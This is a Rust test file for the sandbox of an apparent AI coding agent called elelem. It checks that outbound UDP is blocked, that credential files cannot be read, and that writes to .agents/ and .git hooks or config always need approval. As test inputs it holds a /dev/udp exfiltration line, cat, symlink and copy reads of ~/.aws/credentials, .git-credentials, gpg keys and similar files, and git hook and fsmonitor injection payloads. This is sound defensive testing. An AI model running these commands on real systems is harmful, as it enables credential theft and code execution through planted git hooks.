//! Issue 29, more attempts from outside through the real binary (no `--allow`): UDP is
//! refused like TCP while a Unix socket file still works; every default secret (and
//! elelem's own data directory) reads as nothing while the rest of home reads; the file
//! tools' writes to `.agents/`, `.git/hooks/` and `.git/config` are always put to the user
//! (refused in `ask` even with `--allow write`; `--yolo` aside); the mode is reported once
//! on stderr by `ask`.

use crate::security::sandbox::{supported, Run};
use serde_json::json;

#[test]
fn a_command_cannot_send_udp() {
    if !supported() {
        return;
    }
    let socket = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    socket.set_read_timeout(Some(std::time::Duration::from_millis(300))).unwrap();
    let port = socket.local_addr().unwrap().port();
    let run = Run::new();
    // Loopback is up in the session's own network namespace (issue 40): a datagram to
    // 127.0.0.1 stays there; one to any other address finds no route.
    let result =
        run.execute(&[], &format!("echo leak > /dev/udp/127.0.0.1/{port}; echo leak > /dev/udp/192.0.2.1/{port}"));
    assert!(result["exit_status"].as_i64().is_some_and(|s| s != 0), "{result}");
    let mut buffer = [0u8; 16];
    assert!(socket.recv(&mut buffer).is_err(), "a datagram arrived: {result}");
}

#[test]
fn a_command_may_use_a_unix_socket_file() {
    if !supported() || std::process::Command::new("python3").arg("--version").output().is_err() {
        return;
    }
    let run = Run::new();
    let path = run.project().join("service.sock");
    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    let accept = std::thread::spawn(move || {
        use std::io::Read;
        let (mut stream, _) = listener.accept().unwrap();
        let mut text = String::new();
        stream.read_to_string(&mut text).unwrap();
        text
    });
    let result = run.execute(
        &[],
        "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('service.sock'); s.sendall(b'hello')\"",
    );
    assert_eq!(result["exit_status"], 0, "{result}");
    assert_eq!(accept.join().unwrap(), "hello");
}

#[test]
fn no_default_secret_is_readable_but_the_rest_of_home_is() {
    if !supported() {
        return;
    }
    let run = Run::new();
    let secrets = [
        ".gnupg/private-keys-v1.d/key",
        ".aws/credentials",
        ".config/gcloud/credentials.db",
        ".azure/accessTokens.json",
        ".kube/config",
        ".docker/config.json",
        ".netrc",
        ".git-credentials",
        ".pgpass",
        ".local/share/elelem/sessions/one.jsonl",
    ];
    for (n, secret) in secrets.iter().enumerate() {
        let path = run.home().join(secret);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, format!("SECRET-{n}\n")).unwrap();
    }
    std::fs::create_dir_all(run.home().join(".config/other")).unwrap();
    std::fs::write(run.home().join(".config/other/settings"), "PLAIN\n").unwrap();
    std::fs::write(run.home().join(".bashrc"), "PLAIN-RC\n").unwrap();
    for secret in secrets {
        // Directly, through a symlink in the project, and by a copy into the project.
        for command in [
            format!("cat ~/{secret}"),
            format!("ln -s ~/{secret} link && cat link"),
            format!("cp ~/{secret} copy; cat copy"),
        ] {
            let result = run.execute(&[], &command);
            assert!(!result.to_string().contains("SECRET-"), "{command}: {result}");
            let _ = std::fs::remove_file(run.project().join("link"));
            let _ = std::fs::remove_file(run.project().join("copy"));
        }
    }
    let result = run.execute(&[], "cat ~/.config/other/settings ~/.bashrc");
    assert_eq!(result["exit_status"], 0, "{result}");
    assert!(result["content"].as_str().is_some_and(|c| c.contains("PLAIN") && c.contains("PLAIN-RC")), "{result}");
}

#[test]
fn the_file_tools_always_ask_before_changing_protected_paths() {
    let run = Run::new();
    std::fs::write(run.project().join(".git/config"), "[core]\n").unwrap();
    let writes = [
        json!({"path": ".agents/permissions.json", "content": "{\"execute\": \"allow\"}"}),
        json!({"path": ".git/hooks/pre-commit", "content": "evil"}),
        json!({"path": ".git/config", "content": "[core] hooksPath = /tmp"}),
        // Nested: what elelem run from `sub/` would read, and a repository inside the project.
        json!({"path": "sub/.agents/plugins/x.lua", "content": "evil"}),
        json!({"path": "vendor/lib/.git/hooks/post-checkout", "content": "evil"}),
        json!({"path": "vendor/lib/.git/config", "content": "[core] fsmonitor = evil"}),
    ];
    for arguments in &writes {
        let result = run.call(&["--allow", "write"], "write", arguments.clone());
        assert!(result["error"].as_str().is_some_and(|e| e.contains("always asked about")), "{result}");
    }
    // Through a symlink in the project that leads there.
    std::os::unix::fs::symlink(run.project().join(".agents"), run.project().join("cfg")).unwrap();
    let result = run.call(&["--allow", "write"], "write", json!({"path": "cfg/permissions.json", "content": "{}"}));
    assert!(result["error"].as_str().is_some_and(|e| e.contains("always asked about")), "{result}");
    assert!(!run.project().join(".agents/permissions.json").exists());
    assert!(!run.project().join(".git/hooks/pre-commit").exists());
    assert!(!run.project().join("sub/.agents").exists() && !run.project().join("vendor/lib/.git").exists());
    assert_eq!(std::fs::read_to_string(run.project().join(".git/config")).unwrap(), "[core]\n");
    // Elsewhere in the project `--allow write` is enough; `--yolo` writes there too.
    let result = run.call(&["--allow", "write"], "write", json!({"path": "agents.txt", "content": "x"}));
    assert_eq!(result["ok"], true, "{result}");
    let result = run.call(&["--yolo"], "write", writes[0].clone());
    assert_eq!(result["ok"], true, "{result}");
    assert!(run.project().join(".agents/permissions.json").exists());
}

#[test]
fn ask_reports_the_mode_once_on_stderr() {
    let run = Run::new();
    let steps = json!([{"events": [{"type": "saying", "text": "done"}]}]);
    let (_, stderr) = run.ask(&["--sandbox", "off"], &steps);
    assert_eq!(stderr.matches("sandbox: off").count(), 1, "{stderr}");
    if !supported() {
        return;
    }
    let (_, stderr) = run.ask(&[], &steps);
    assert_eq!(stderr.matches("sandbox: workspace-write, no network").count(), 1, "{stderr}");
    let (_, stderr) = run.ask(&["--sandbox", "read-only", "--sandbox-network"], &steps);
    assert!(stderr.contains("sandbox: read-only, network on"), "{stderr}");
}
